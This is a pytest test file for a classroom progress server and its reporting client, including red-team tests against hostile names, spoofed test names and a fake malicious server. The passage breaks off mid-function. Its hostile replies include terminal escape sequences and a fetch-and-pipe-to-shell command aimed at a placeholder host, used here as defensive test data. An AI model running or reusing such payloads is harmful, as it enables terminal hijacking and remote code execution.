"""The workshop room (``decodelab room serve`` and ``decodelab check --room``).

End to end on localhost, through the commands users run: the server as its own process, 30
simulated learners reporting at once through the client every check uses
(:func:`decodelab.room.report.send_report`), two real ``decodelab check --room`` runs (untouched
stubs, and an exercise written wrong), a notebook's ``dl.check`` with ``$DECODELAB_ROOM`` set, a
restart on the same SQLite file, and the instructor's
page rendered by headless Chromium. Expected counts come from the simulated class's plan below,
not from the server's code. Unit tests hold each promise of the report's contract.
"""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import unicodedata
import urllib.parse
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from pathlib import Path

import pytest
from starlette.testclient import TestClient

from decodelab.commands.check import BROKEN, DONE, FAILING, NOT_STARTED, ExerciseStatus
from decodelab.commands.check import TestLine as Line  # not "Test...": pytest would try to collect it
from decodelab.commands.list_exercises import public_test_names
from decodelab.notebook import replace_function
from decodelab.room.report import (
    KEY_FILE, MAX_BODY, NAME_ENV, ReportError, RoomLink, build_report, learner_key, name_was_chosen, parse_room_url,
    report_to_room, send_report, validate_report,
)
from decodelab.room.server import REQUEST_SECONDS, create_app
from decodelab.room.store import NameTaken, RoomStore
from decodelab.errors import UserError
from grading.harness.catalogue import EXERCISES

ROOT = Path(__file__).resolve().parents[1]
KEYS = [exercise.key for exercise in EXERCISES]
# Two public tests of each exercise, by name: the room shows only names its suites have.
FIRST, SECOND = ({key: sorted(names)[index] for key, names in public_test_names().items()} for index in (0, 1))
CHROMIUM = next((shutil.which(name) for name in ("chromium", "chromium-browser", "google-chrome")
                 if shutil.which(name)), None)
HOSTILE_NAME = "<b>bold</b>, &co"  # markup, and a comma: names are items, not a joined line


def machine_key(learner: str) -> str:
    """The room key of ``learner``'s machine in these tests: one per person, however the name is spelled."""
    return "key-" + hashlib.sha256(unicodedata.normalize("NFC", learner.strip()).encode("utf-8", "replace")).hexdigest()[:24]


def report(learner: str, room_key: str | None = None, **states: str | tuple[str, list[str]]) -> dict:
    exercises = {}
    for key, value in states.items():
        state, failing = (value, []) if isinstance(value, str) else value
        exercises[key] = {"state": state, "failing": failing}
    return {"version": 2, "learner": learner, "key": room_key or machine_key(learner), "exercises": exercises}


# ---------------------------------------------------------------------------------------------
# The report's contract
# ---------------------------------------------------------------------------------------------

@pytest.mark.parametrize("payload, field", [
    ([], "JSON object"),
    ({**report("a", pieces=DONE), "version": 1}, "version"),
    ({key: value for key, value in report("a", pieces=DONE).items() if key != "key"}, "'key'"),
    (report("a", "short", pieces=DONE), "'key'"),
    (report("a", "a-key-with a space in it", pieces=DONE), "'key'"),
    (report("a", "k" * 101, pieces=DONE), "'key'"),
    (report("", pieces=DONE), "learner"),
    (report("x" * 41, pieces=DONE), "at most 40"),
    (report("tab\there", pieces=DONE), "printable"),
    ({**report("a"), "exercises": {}}, "at least one"),
    (report("a", no_such_exercise=DONE), "no exercise 'no_such_exercise'"),
    (report("a", pieces="finished"), "'state' must be one of"),
    (report("a", pieces=(FAILING, ["t"] * 41)), "at most 40 test names"),
    (report("a", pieces=(FAILING, ["t" * 121])), "1 to 120 printable"),
    (report("a", pieces=(FAILING, [3])), "1 to 120 printable"),
])
def test_a_report_the_room_cannot_show_is_refused_with_its_field(payload, field):
    with pytest.raises(ReportError) as refused:
        validate_report(payload)
    assert field in str(refused.value), f"validate_report({payload!r:.80}) said {refused.value!r}, not about {field!r}"


def test_a_report_names_states_and_failing_tests_and_never_messages():
    secret = "expected tensor([0.1, 0.9]) got tensor([0.5, 0.5]) at line 12 of my_code.py"
    statuses = {
        "temperature": ExerciseStatus("temperature", FAILING, [
            Line("test_sums_to_one", "passed", ""), Line("test_low_temperature_sharpens", "wrong", secret),
            Line("test_keeps_shape", "skipped", "no model")], secret),
        "greedy": ExerciseStatus("greedy", DONE, [Line("test_greedy_matches", "passed", "")]),
    }
    body = build_report("aiko", statuses, machine_key("aiko"))
    assert body["exercises"] == {
        "temperature": {"state": FAILING, "failing": ["test_low_temperature_sharpens"]},
        "greedy": {"state": DONE, "failing": []},
    }, f"build_report sent {body['exercises']}"
    assert "tensor" not in json.dumps(body), "a test's message (which can quote the learner's values) was sent"
    assert set(body) == {"version", "learner", "key", "named", "exercises"}, f"build_report sent the fields {sorted(body)}"


@pytest.mark.parametrize("link", ["http://host:8765/view/abcd2345", "ftp://host/join/abcd2345", "host/join/abcd2345",
                                  "http://host/join/ab", "http://host/join/abcd2345?x=1"])
def test_a_link_that_is_not_a_join_link_is_refused(link):
    with pytest.raises(UserError, match="not a room link"):
        parse_room_url(link)


def test_a_bad_room_link_stops_check_before_anything_runs():
    started = time.monotonic()
    done = subprocess.run([sys.executable, "-m", "decodelab.cli", "check", "--room", "http://host/view/x"],
                          cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 2 and "not a room link" in done.stderr and not done.stdout, (
        f"decodelab check --room http://host/view/x: exit {done.returncode}, stdout {done.stdout[-300:]!r}, "
        f"stderr {done.stderr[-300:]!r}; expected exit 2, one sentence, no check")
    assert time.monotonic() - started < 60


@pytest.mark.parametrize("arguments,says", [
    (["room", "serve", "--join-code", "tokyo ramen", "--port", "1"], "--join-code must be 4 to 64 letters"),
    (["check", "--room", "http://host:8765/join/abcd2345", "--name", "Chen\u202eL"], "--name must be at most 40"),
], ids=["a join code with a space", "a name that does not show as itself"])
def test_an_instructors_or_learners_own_setting_is_named_when_refused(arguments, says):
    # A usability walk-through (session 41): a join code with a space was refused with the
    # learners' "ask your instructor for the link", and a refused --name blamed $DECODELAB_NAME.
    done = subprocess.run([sys.executable, "-m", "decodelab.cli", *arguments], cwd=ROOT, capture_output=True,
                          text=True, timeout=120, env={k: v for k, v in os.environ.items() if k != "DECODELAB_NAME"})
    assert done.returncode == 2 and says in done.stderr and "instructor for it" not in done.stderr, (
        f"decodelab {' '.join(arguments)}: exit {done.returncode}, stderr {done.stderr[-300:]!r}; expected exit 2 "
        f"and a sentence starting {says!r}")


def test_an_unreachable_room_costs_one_line_within_the_time_limit():
    with socket.socket() as holder:
        holder.bind(("127.0.0.1", 0))
        port = holder.getsockname()[1]  # bound, never listening: connections are refused
        started = time.monotonic()
        line = send_report(RoomLink(f"http://127.0.0.1:{port}", "abcd2345"), report("aiko", pieces=DONE))
    assert line.startswith("room: could not reach") and "unaffected" in line, f"send_report said {line!r}"
    assert time.monotonic() - started < 10


# ---------------------------------------------------------------------------------------------
# The server, in process
# ---------------------------------------------------------------------------------------------

@pytest.fixture
def client(tmp_path):
    store = RoomStore(tmp_path / "room.sqlite")
    join, view = store.codes("abcd2345")
    app = create_app(store, join, view, "http://127.0.0.1:1/join/abcd2345")
    with TestClient(app) as test_client:
        test_client.view = view
        yield test_client
    store.close()


def test_the_join_link_opened_in_a_browser_says_what_it_is_for(client):
    # It answered a bare "404 Not Found", so a right link looked dead (a workshop walk-through).
    page = client.get("/join/abcd2345")
    assert page.status_code == 200 and "decodelab check --room http://127.0.0.1:1/join/abcd2345" in page.text, (
        f"GET /join/<the code> gave {page.status_code}: {page.text[:300]!r}; expected how a check uses the link")
    wrong = client.get("/join/zzzz9999")
    assert wrong.status_code == 403 and "abcd2345" not in wrong.text, (
        f"GET /join/<a wrong code> gave {wrong.status_code}: {wrong.text[:300]!r}; expected 403 and not the link")


def test_the_server_refuses_a_wrong_code_a_huge_body_and_bad_json(client):
    wrong = client.post("/join/zzzz9999/report", json=report("a", pieces=DONE))
    assert wrong.status_code == 403 and "join code" in wrong.json()["error"]
    huge = client.post("/join/abcd2345/report", content=b"{" + b" " * MAX_BODY + b"}",
                       headers={"content-type": "application/json"})
    assert huge.status_code == 413, f"a body over {MAX_BODY} bytes got {huge.status_code}"
    garbled = client.post("/join/abcd2345/report", content=b"{not json")
    assert garbled.status_code == 400 and "not JSON" in garbled.json()["error"]
    unknown = client.post("/join/abcd2345/report", json=report("a", nope=DONE))
    assert unknown.status_code == 400 and "no exercise 'nope'" in unknown.json()["error"]
    assert client.get("/view/not-the-code").status_code == 403
    assert client.get("/view/not-the-code/state").status_code == 403
    assert client.get(f"/view/{client.view}/state").json()["learners"] == 0, "a refused report was kept"


def test_the_summary_counts_each_learners_latest_word(client):
    posts = [
        report("ann", pieces=DONE, piece_bytes=(FAILING, [SECOND["piece_bytes"], FIRST["piece_bytes"]])),
        report("bob", pieces=DONE, piece_bytes=(FAILING, [FIRST["piece_bytes"]])),
        report("cy", pieces=NOT_STARTED),
        report("ann", piece_bytes=DONE),  # later: ann fixed it; pieces stays done
    ]
    for post in posts:
        assert client.post("/join/abcd2345/report", json=post).status_code == 200
    room = client.get(f"/view/{client.view}/state").json()
    by_key = {entry["key"]: entry for entry in room["exercises"]}
    assert room["learners"] == 3
    assert (by_key["pieces"]["done"], by_key["pieces"]["working"], by_key["pieces"]["not_started"]) == (2, 0, 1)
    assert (by_key["piece_bytes"]["done"], by_key["piece_bytes"]["working"]) == (1, 1)
    assert by_key["piece_bytes"]["stuck_on"] == {"test": FIRST["piece_bytes"], "learners": 1}, (
        f"only bob is still failing piece_bytes, on {FIRST['piece_bytes']}; ann's older failures must not count")
    assert room["not_started"] == ["cy"]
    people = {person["name"]: person for person in room["people"]}
    assert people["bob"]["working_on"] == "piece_bytes" and people["ann"]["done"] == 2
    # A file that does not import runs no test: the room says so where it is stuck (a workshop
    # walk-through, session 41, found two such learners shown as "working" and stuck on nothing).
    for name in ("dee", "eve"):
        assert client.post("/join/abcd2345/report", json=report(name, pieces=BROKEN)).status_code == 200
    pieces = next(entry for entry in client.get(f"/view/{client.view}/state").json()["exercises"]
                  if entry["key"] == "pieces")
    assert pieces["stuck_on"] == {"test": "(its file does not import)", "learners": 2}, (
        f"two learners whose tokens.py does not import left pieces stuck on {pieces['stuck_on']}, expected "
        "'(its file does not import)' for 2")


# ---------------------------------------------------------------------------------------------
# End to end: the server's own process, 30 learners, two real checks, a restart, a browser
# ---------------------------------------------------------------------------------------------

def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def serve(db: Path, port: int, open_files: int | None = None) -> tuple[subprocess.Popen, str, str]:
    """``decodelab room serve`` in its own process (at most ``open_files`` open files, soft and hard
    limit, when given); it, the join link and the view link, once it answers."""
    def limit() -> None:
        import resource

        resource.setrlimit(resource.RLIMIT_NOFILE, (open_files, open_files))

    process = subprocess.Popen(
        [sys.executable, "-m", "decodelab.cli", "room", "serve", "--host", "127.0.0.1", "--port", str(port),
         "--db", str(db)], cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        preexec_fn=limit if open_files else None)
    lines = []
    assert process.stdout is not None
    while not any("your page" in line for line in lines):
        line = process.stdout.readline()
        if not line:
            pytest.fail("decodelab room serve ended before printing its links:\n" + "".join(lines))
        lines.append(line)
    text = "".join(lines)
    # Keep reading what the server prints, or a full pipe would stop it mid-write.
    threading.Thread(target=lambda: lines.extend(process.stdout), daemon=True).start()
    process.output = lines
    join = re.search(r"--room (\S+)", text).group(1)
    view = re.search(r"your page.*?(http\S+)", text).group(1)
    deadline = time.monotonic() + 60
    while True:
        try:
            urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2).read()
            return process, join, view
        except OSError:
            if time.monotonic() > deadline or process.poll() is not None:
                process.kill()
                pytest.fail(f"the room server never answered on port {port}:\n{text}")
            time.sleep(0.2)


def stop(process: subprocess.Popen) -> None:
    process.send_signal(signal.SIGINT)
    try:
        process.wait(timeout=20)
    except subprocess.TimeoutExpired:
        process.kill()
        pytest.fail("decodelab room serve did not stop on Ctrl-C within 20 s")


def plan(learner: int) -> tuple[dict, dict]:
    """Learner ``learner``'s first and latest report: the latest has ``learner % 6`` exercises done,
    the next one failing (its first public test for two learners in three, its second for the
    third), learners 0 and
    6 only looked at the first exercise; learner 12 has not run a check since the first report."""
    name = f"learner-{learner:02d}"
    first = report(name, **{KEYS[0]: NOT_STARTED})
    if learner in (0, 6):
        return first, first
    done = learner % 6
    latest = {key: DONE for key in KEYS[:done]}
    latest[KEYS[done]] = (FAILING, [SECOND[KEYS[done]] if learner % 3 == 0 else FIRST[KEYS[done]]])
    return first, (first if learner == 12 else report(name, **latest))


def expected_room(learners: int) -> dict[str, tuple[int, int, str]]:
    """Per exercise key: (done, working, most common failing test or '') for the plan above."""
    latest = [plan(learner)[1]["exercises"] for learner in range(learners)]
    expected = {}
    for key in KEYS:
        states = [exercises.get(key, {}).get("state") for exercises in latest]
        failing = [test for exercises in latest if exercises.get(key, {}).get("state") == FAILING
                   for test in exercises[key]["failing"]]
        top = max(sorted(set(failing)), key=failing.count) if failing else ""
        expected[key] = (states.count(DONE), states.count(FAILING), top)
    return expected


def dom(view: str, profile: Path) -> str:
    """The view page's DOM after its scripts ran, from headless Chromium."""
    done = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", f"--user-data-dir={profile}",
         "--virtual-time-budget=5000", "--dump-dom", view], capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, f"Chromium exited {done.returncode}:\n{done.stderr[-1500:]}"
    return done.stdout


def row_cells(page: str, attribute: str, value: str) -> list[str]:
    row = re.search(rf'<tr data-{attribute}="{re.escape(value)}">(.*?)</tr>', page, re.S)
    assert row is not None, f"the page has no row for {attribute} {value!r}"
    return [unescape(re.sub(r"<[^>]+>", "", cell)) for cell in re.findall(r"<td[^>]*>(.*?)</td>", row.group(1), re.S)]


@pytest.mark.skipif(CHROMIUM is None,
                    reason="Chromium is not installed (CI installs it: apt-get install -y chromium)")
def test_a_room_of_30_learners_end_to_end(tmp_path):
    db, port, learners = tmp_path / "room.sqlite", free_port(), 30
    server, join, view = serve(db, port)
    try:
        link = parse_room_url(join)
        with ThreadPoolExecutor(max_workers=learners) as pool:  # everyone's first check at once
            first = list(pool.map(lambda n: send_report(link, plan(n)[0]), range(learners)))
        assert all(line.startswith("room: sent") for line in first), [line for line in first if "sent" not in line]
        with ThreadPoolExecutor(max_workers=learners) as pool:
            later = list(pool.map(lambda n: send_report(link, plan(n)[1]), range(learners)))
        assert all(line.startswith("room: sent") for line in later)
        send_report(link, report(HOSTILE_NAME, **{KEYS[0]: NOT_STARTED}))

        # Two real checks: untouched stubs, and softmax_with_temperature written without the temperature.
        env = dict(os.environ, DECODELAB_CACHE=str(tmp_path / "cache"))
        stubs = subprocess.run([sys.executable, "-m", "decodelab.cli", "check", "--room", join, "--name", "stub-sam"],
                               cwd=ROOT, env=env, capture_output=True, text=True, timeout=300)
        assert stubs.returncode == 1 and "room: sent" in stubs.stdout, stubs.stdout[-800:] + stubs.stderr[-800:]
        mine = tmp_path / "mine"
        shutil.copytree(ROOT / "exercises", mine, ignore=shutil.ignore_patterns("__pycache__"))
        replace_function(mine / "distributions.py", "softmax_with_temperature",
                         "def softmax_with_temperature(logits, temperature):\n"
                         "    return torch.softmax(logits, dim=-1)\n")
        wrong = subprocess.run([sys.executable, "-m", "decodelab.cli", "check", "temperature", "--target", str(mine),
                                "--name", "wrong-wes"], cwd=ROOT, env=dict(env, DECODELAB_ROOM=join),
                               capture_output=True, text=True, timeout=600)
        assert wrong.returncode == 1 and "room: sent" in wrong.stdout, wrong.stdout[-1500:] + wrong.stderr[-800:]
        failing_names = re.findall(r"^\s+(?:wrong|failed|raised|error)\s+(\S+)", wrong.stdout, re.M)
        assert failing_names, f"the check of a wrong temperature showed no failing test:\n{wrong.stdout[-1500:]}"

        # A notebook's dl.check reports too, with $DECODELAB_ROOM set once (untouched stubs: nothing runs).
        from decodelab import notebook as dl

        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("DECODELAB_ROOM", join)
            patch.setenv("DECODELAB_NAME", "notebook-nia")
            patch.setenv("DECODELAB_CACHE", str(tmp_path / "cache"))
            dl.check("pieces", "piece_bytes")

        views_before = view
        stop(server)
        server, join_again, view = serve(db, port)  # a restart on the same file
        assert (join_again, view) == (join, views_before), "a restart on the same --db changed the room's links"

        state = json.loads(urllib.request.urlopen(view + "/state", timeout=10).read())
        assert state["learners"] == learners + 4, f"after a restart the room has {state['learners']} learners"
        page = dom(view, tmp_path / "profile")
    finally:
        stop(server)

    total = learners + 4  # the 30, the hostile name, stub-sam, wrong-wes, notebook-nia
    assert re.search(r'id="learner-count">(\d+)<', page).group(1) == str(total)
    assert re.search(r'id="status" class="muted">updated', page), "the page never drew the room's state"
    for key, (done, working, top) in expected_room(learners).items():
        if key == "temperature":
            working += 1  # wrong-wes
        cells = row_cells(page, "exercise", key)
        shown = (cells[3], cells[4], cells[5])
        wanted = (f"{done}/{total}", str(working), str(total - done - working))
        assert shown == wanted, f"row {key}: the page shows done, working, not started = {shown}; expected {wanted}"
        if top:
            assert cells[6].startswith(top + " ("), f"row {key}: stuck on {cells[6]!r}, expected {top!r} first"
    temperature_stuck = row_cells(page, "exercise", "temperature")[6]
    assert temperature_stuck.split(" (")[0] in {name.split("[")[0] for name in failing_names}, (
        f"the room says temperature is stuck on {temperature_stuck!r}; the learner's check failed {failing_names}")
    waiting = re.search(r'<ul id="not-started" class="names">(.*?)</ul>', page, re.S).group(1)
    not_started = [unescape(item) for item in re.findall(r"<li>(.*?)</li>", waiting, re.S)]
    assert sorted(not_started) == sorted(state["not_started"]), (
        f"the page lists {not_started} as not started; the room's state says {state['not_started']}")
    assert {"learner-00", "learner-06", "learner-12", "stub-sam", "notebook-nia", HOSTILE_NAME} <= set(not_started), (
        not_started)
    assert "<b>bold</b>" not in page and "&lt;b&gt;bold&lt;/b&gt;" in page, "a learner's name was drawn as HTML"
    assert row_cells(page, "learner", "learner-05")[1:3] == ["5/16", KEYS[5]]


# ---------------------------------------------------------------------------------------------
# A third red team's attacks on the room (2026-12-04)


def test_the_page_shows_no_failing_test_the_suites_do_not_have(client):
    key = KEYS[2]
    posts = [report(f"bot{n}", **{key: (FAILING, ["YOU ARE ALL IDIOTS", FIRST[key]])}) for n in range(3)]
    posts.append(report("typist", **{KEYS[3]: (FAILING, ["the instructor is a fraud"])}))
    # a real test's name with a made-up case: the case is any text the learner typed
    posts.append(report("caser", **{KEYS[4]: (FAILING, [FIRST[KEYS[4]] + "[CLASS IS CANCELLED - go home]"])}))
    for post in posts:
        assert client.post("/join/abcd2345/report", json=post).status_code == 200
    state = client.get(f"/view/{client.view}/state")
    assert "CANCELLED" not in state.text, "a learner's text in a test case's brackets reached the page's state"
    by_key = {entry["key"]: entry for entry in state.json()["exercises"]}
    assert by_key[KEYS[4]]["stuck_on"] == {"test": FIRST[KEYS[4]], "learners": 1}, by_key[KEYS[4]]["stuck_on"]
    assert by_key[key]["stuck_on"] == {"test": FIRST[key], "learners": 3}, (
        f"stuck_on of {key} is {by_key[key]['stuck_on']}; an invented test name must be dropped, the suite's kept")
    assert by_key[KEYS[3]]["stuck_on"] is None, f"an invented test name reached the page: {by_key[KEYS[3]]['stuck_on']}"


@pytest.mark.parametrize("name", ["\u200bAiko T.", "Aiko\u202e T.", "Aiko\u00a0T.", "\u3164\u3164", "\u2800",
                                  "Aiko" + "\u0301" * 12, "Aiko\ud800", "\ufeffAiko",
                                  "Aiko\u034f T.", "Aiko T.\ufe0f", "Aiko\u180b T.", "Aiko T.\u2800", "Aiko T.\u3164",
                                  "\u0410iko T.", "Aiko \u03a4."],
                         ids=["zero-width space", "right-to-left override", "no-break space", "hangul fillers",
                              "braille blank", "stacked accents", "lone surrogate", "byte order mark",
                              "grapheme joiner", "variation selector", "mongolian selector", "trailing braille blank",
                              "trailing hangul filler", "cyrillic A", "greek T"])
def test_a_name_that_does_not_show_as_itself_is_refused(client, name):
    answer = client.post("/join/abcd2345/report", content=json.dumps(report(name, **{KEYS[0]: DONE})).encode(),
                         headers={"content-type": "application/json"})
    assert answer.status_code == 400 and "'learner'" in answer.json()["error"], (
        f"a report from {name!r} got {answer.status_code} {answer.text[:200]}, expected 400 naming 'learner'")
    if name in ("\u0410iko T.", "Aiko \u03a4."):
        assert "one alphabet" in answer.json()["error"], answer.json()["error"]
    assert client.get(f"/view/{client.view}/state").status_code == 200, "the page's state broke after a refused name"


def test_a_lone_surrogate_in_a_test_name_never_breaks_the_page(client):
    body = json.dumps(report("ann", **{KEYS[0]: (FAILING, [FIRST[KEYS[0]] + "\ud800"])})).encode()
    answer = client.post("/join/abcd2345/report", content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 400, f"a failing test named with a lone surrogate got {answer.status_code}"
    assert client.get(f"/view/{client.view}/state").status_code == 200, "the page's state broke (it used to, for good)"


def test_two_spaces_are_the_same_name_as_one(client):
    first = client.post("/join/abcd2345/report", json=report("Aiko T.", "aikos-own-key-000001", **{KEYS[0]: DONE}))
    spaced = client.post("/join/abcd2345/report", json=report("Aiko  T.", "not-aikos-key-000002", **{KEYS[0]: NOT_STARTED}))
    assert first.status_code == 200 and spaced.status_code == 409, (
        f"'Aiko  T.' (two spaces, drawn as one by a page) from another key got {spaced.status_code}; expected 409")


def test_one_name_in_two_spellings_is_one_learner(client):
    for spelling in ("Jose\u0301", "Jos\u00e9 "):  # decomposed and composed, a trailing space
        assert client.post("/join/abcd2345/report", json=report(spelling, **{KEYS[0]: DONE})).status_code == 200
    room = client.get(f"/view/{client.view}/state").json()
    assert [person["name"] for person in room["people"]] == ["Jos\u00e9"], f"people: {room['people']}"


def test_a_name_typed_in_full_width_is_the_same_name(client):
    # "Ｃｈｅｎ" and "Chen" were two rows that read alike; now one name, which another key cannot take.
    first = client.post("/join/abcd2345/report", json=report("Chen", "chens-own-key-0000001", **{KEYS[0]: DONE}))
    wide = client.post("/join/abcd2345/report", json=report("Ｃｈｅｎ", "not-chens-key-0000002", **{KEYS[0]: NOT_STARTED}))
    assert first.status_code == 200 and wide.status_code == 409, (
        f"'Ｃｈｅｎ' from another key got {wide.status_code} after 'Chen' got {first.status_code}; expected 409")
    again = client.post("/join/abcd2345/report", json=report("Ｃｈｅｎ", "chens-own-key-0000001", **{KEYS[0]: DONE}))
    assert again.status_code == 200, f"'Ｃｈｅｎ' from Chen's own key got {again.status_code}, expected 200"
    room = client.get(f"/view/{client.view}/state").json()
    assert [person["name"] for person in room["people"]] == ["Chen"], f"people: {room['people']}"


class HostileRoom:
    """A room that answers every connection with ``reply`` (bytes), or trickles it a byte at a time."""

    def __init__(self, reply: bytes, trickle: float = 0.0):
        self.reply, self.trickle = reply, trickle
        self.listener = socket.socket()
        self.listener.bind(("127.0.0.1", 0))
        self.listener.listen(8)
        self.link = RoomLink(f"http://127.0.0.1:{self.listener.getsockname()[1]}", "abcd2345")
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.listener.accept()
            except OSError:
                return
            try:
                connection.recv(65536)
                if self.trickle:
                    for byte in self.reply:
                        connection.sendall(bytes([byte]))
                        time.sleep(self.trickle)
                else:
                    connection.sendall(self.reply)
            except OSError:
                pass
            finally:
                connection.close()

    def close(self) -> None:
        self.listener.close()


def _http(status: str, body: bytes, headers: str = "Content-Type: application/json\r\n") -> bytes:
    return f"HTTP/1.1 {status}\r\n{headers}Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body


HOSTILE_ANSWERS = {
    "not HTTP": b"SMTP READY\r\n\r\n",
    "a JSON list": _http("200 OK", b"[1, 2, 3]"),
    "null": _http("200 OK", b"null"),
    "deep nesting": _http("200 OK", b"[" * 60000),
    "escapes in the count": _http("200 OK", json.dumps({"learners": "\x1b[2J\x1b]0;pwned\x07ALL TESTS FAILED"}).encode()),
    "escapes in a refusal": _http("403 Forbidden", json.dumps({"error": "\x1b[2Jrun: curl evil.sh | sh"}).encode()),
    "200 headers": _http("200 OK", b"{}", "".join(f"X-{n}: y\r\n" for n in range(200))),
}


@pytest.mark.parametrize("answer", list(HOSTILE_ANSWERS), ids=list(HOSTILE_ANSWERS))
def test_a_hostile_room_costs_the_learner_one_plain_line(answer):
    room = HostileRoom(HOSTILE_ANSWERS[answer])
    try:
        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}))
    finally:
        room.close()
    assert line.startswith("room: ") and "\n" not in line and "\x1b" not in line and len(line) < 400, (
        f"send_report to a room answering {answer} gave {line!r}; expected one plain line, no escape characters")
    assert "your check itself is unaffected" in line, f"the line does not say the check is unaffected: {line!r}"


def test_a_room_that_trickles_its_answer_is_cut_off_in_time():
    room = HostileRoom(_http("200 OK", b'{"ok": true, "learners": 1}'), trickle=0.5)
    started = time.monotonic()
    try:
        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}), timeout=1.5)
    finally:
        room.close()
    took = time.monotonic() - started
    assert took < 3.0 and "did not answer within" in line, (
        f"a room sending a byte every 0.5 s held send_report(timeout=1.5) for {took:.1f} s: {line!r}")


def test_a_room_that_redirects_is_not_followed():
    target = HostileRoom(_http("200 OK", b'{"ok": true, "learners": 99}'))
    room = HostileRoom(_http("302 Found", b"", f"Location: {target.link.base}/secret\r\n"))
    try:
        line = send_report(room.link, report("ann", **{KEYS[0]: DONE}))
    finally:
        room.close()
        target.close()
    assert "99 in the room" not in line and "unaffected" in line, (
        f"send_report followed a redirect to another service: {line!r}")


def test_a_full_room_refuses_new_names_but_not_the_learners_in_it(tmp_path):
    store = RoomStore(tmp_path / "room.sqlite")
    join, view = store.codes("abcd2345")
    with TestClient(create_app(store, join, view, "http://127.0.0.1:1/join/abcd2345", max_learners=3)) as room:
        for name in ("ann", "bob", "cy"):
            assert room.post("/join/abcd2345/report", json=report(name, **{KEYS[0]: NOT_STARTED})).status_code == 200
        extra = room.post("/join/abcd2345/report", json=report("bot-4", **{KEYS[0]: DONE}))
        again = room.post("/join/abcd2345/report", json=report("ann", **{KEYS[0]: DONE}))
        state = room.get(f"/view/{view}/state").json()
    store.close()
    assert extra.status_code == 403 and "full" in extra.json()["error"], (
        f"a fourth name in a room of at most 3 got {extra.status_code} {extra.text[:200]}, expected 403 'full'")
    assert again.status_code == 200 and state["learners"] == 3, (
        f"a learner already in the full room got {again.status_code}; the room holds {state['learners']}, expected 3")


# ---------------------------------------------------------------------------------------------
# What the third red team left open: another learner's name, and connections held half-open
# ---------------------------------------------------------------------------------------------

def test_a_name_is_kept_for_the_machine_that_first_reported_it(client):
    first = client.post("/join/abcd2345/report", json=report("ann", "anns-laptop-key-0001", **{KEYS[0]: DONE}))
    rival = client.post("/join/abcd2345/report", json=report("ann", "someone-elses-key-02", **{KEYS[0]: NOT_STARTED}))
    again = client.post("/join/abcd2345/report", json=report("ann", "anns-laptop-key-0001", **{KEYS[1]: DONE}))
    assert first.status_code == 200 and again.status_code == 200, (
        f"ann's own reports got {first.status_code} and {again.status_code}, expected 200 both")
    assert rival.status_code == 409 and "already in this room" in rival.json()["error"] \
        and "--name" in rival.json()["error"], (
        f"a report under ann's name from another key got {rival.status_code} {rival.text[:200]}; "
        "expected 409 saying the name is taken and how to choose another")
    ann = next(person for person in client.get(f"/view/{client.view}/state").json()["people"] if person["name"] == "ann")
    assert ann["done"] == 2, f"ann's row after a classmate's report under her name: {ann}; expected her 2 done exercises"


def test_a_chosen_name_takes_over_the_automatic_one(tmp_path):
    # A notebook reports as "jovyan@…" until its learner picks a name: the first name stayed in
    # the room as a ghost row, and counted against --max-learners. Two chosen names from one key
    # (classmates sharing an account) stay two learners.
    store = RoomStore(tmp_path / "room.sqlite")
    join, view = store.codes("abcd2345")
    shared = "one-shared-account-key-01"
    automatic = dict(report("jovyan@hub-7f3a", "aikos-notebook-key-0001", **{KEYS[0]: DONE}), named=False)
    with TestClient(create_app(store, join, view, "http://127.0.0.1:1/join/abcd2345", max_learners=4)) as room:
        for body in (report("bob", **{KEYS[0]: NOT_STARTED}), automatic,
                     report("Aiko", "aikos-notebook-key-0001", **{KEYS[1]: DONE}),
                     report("cy", shared, **{KEYS[0]: DONE}), report("dee", shared, **{KEYS[0]: DONE})):
            answer = room.post("/join/abcd2345/report", json=body)
            assert answer.status_code == 200, f"{body['learner']}'s report got {answer.status_code} {answer.text[:200]}"
        people = {person["name"]: person for person in room.get(f"/view/{view}/state").json()["people"]}
    store.close()
    assert sorted(people) == ["Aiko", "bob", "cy", "dee"], (
        f"after one machine reported as jovyan@hub-7f3a (automatic) and then as Aiko (chosen), and two "
        f"classmates under one key, the room shows {sorted(people)}; expected Aiko, bob, cy and dee")
    assert people["Aiko"]["done"] == 2, f"Aiko's row: {people['Aiko']}; expected both exercises done, one from her old name"


def test_a_takeover_keeps_the_newest_word_on_each_exercise(tmp_path):
    store = RoomStore(tmp_path / "room.sqlite")
    key = "aikos-notebook-key-0001"

    def record(name: str, named: bool, at: float, **states) -> None:
        store.record(validate_report(dict(report(name, key, **states), named=named)), now=at)

    record("Aiko", True, 1.0, **{KEYS[0]: DONE})
    record("jovyan@hub-old", False, 2.0, **{KEYS[1]: DONE, KEYS[2]: DONE})       # a fresh kernel, no --name
    record("jovyan@hub-new", False, 3.0, **{KEYS[2]: (FAILING, [FIRST[KEYS[2]]])})  # its pod renamed, later
    record("Aiko", True, 4.0, **{KEYS[3]: DONE})
    people = {person["name"]: person for person in store.summary()["people"]}
    states = dict(store._db.execute("SELECT exercise, state FROM progress WHERE learner = 'Aiko'").fetchall())
    store.close()
    assert sorted(people) == ["Aiko"], f"the room shows {sorted(people)} after the takeover, expected Aiko alone"
    expected = {KEYS[0]: DONE, KEYS[1]: DONE, KEYS[2]: FAILING, KEYS[3]: DONE}
    assert states == expected, f"Aiko's progress after the takeover is {states}, expected {expected} (the newest word each)"


def test_a_report_says_whether_its_name_was_chosen(tmp_path, monkeypatch):
    import decodelab.room.report as room_report

    sent = []
    monkeypatch.setattr(room_report, "send_report", lambda link, body: sent.append(body) or "room: sent")
